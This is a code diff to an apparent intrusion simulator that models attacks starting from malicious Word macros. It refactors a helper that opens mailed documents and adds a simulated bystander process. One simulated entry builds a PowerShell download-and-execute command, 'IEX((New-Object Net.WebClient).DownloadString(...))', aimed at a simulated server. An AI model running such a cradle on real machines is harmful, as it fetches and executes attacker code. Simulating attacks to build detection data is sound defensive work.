@@ -12,6 +12,7 @@ from typing import TYPE_CHECKING
 from lineage.simulate import names
 from lineage.simulate.benign import office, web
 from lineage.simulate.benign.boot import SYSTEM32
+from lineage.simulate.intrusion.bystander import read_on
 
 if TYPE_CHECKING:
     from lineage.simulate.facts import Process
@@ -24,7 +25,7 @@ Entry = Generator[float, None, "Process"]
 
 def macro_script_host(m: Machine, plan: Plan) -> Entry:
     """A mailed Word document whose macro drops a script and runs it with wscript."""
-    word, _ = yield from _open_document(m, plan)
+    word = yield from _open_document(m, plan)
     script = f"{m.home}\\AppData\\Local\\Temp\\{plan.script}"
     m.write(word, script, plan.label("script"))
     yield m.random.uniform(0.5, 3)
@@ -42,7 +43,7 @@ def macro_script_host(m: Machine, plan: Plan) -> Entry:
 
 def macro_shell(m: Machine, plan: Plan) -> Entry:
     """A mailed document whose macro starts a command prompt that starts PowerShell."""
-    word, _ = yield from _open_document(m, plan)
+    word = yield from _open_document(m, plan)
     yield m.random.uniform(0.5, 2)
     url = f"http://{plan.servers[0]}/{names.word(m.random)}.txt"
     fetch = f"IEX((New-Object Net.WebClient).DownloadString('{url}'))"
@@ -135,7 +136,7 @@ ENTRIES: dict[str, Callable[[Machine, Plan], Entry]] = {
 """Every way in by its name."""
 
 
-def _open_document(m: Machine, plan: Plan) -> Generator[float, None, tuple[Process, str]]:
+def _open_document(m: Machine, plan: Plan) -> Entry:
     outlook = office.outlook(m)
     yield m.random.uniform(5, 60)
     path = f"{office.attachment_folder(m)}\\{plan.document}.docm"
@@ -149,8 +150,9 @@ def _open_document(m: Machine, plan: Plan) -> Generator[float, None, tuple[Proce
     office.opened(m, word, "Word", path)
     for library in ("VBE7.DLL", "VBE7INTL.DLL"):
         m.load(word, office.VBA + library, plan.label("macro engine"))
+    m.begin(read_on(m, word))
     yield m.random.uniform(0.5, 4)
-    return word, path
+    return word
 
 
 def _unpack_mailed_archive(m: Machine, plan: Plan) -> Generator[float, None, tuple[str, str]]:
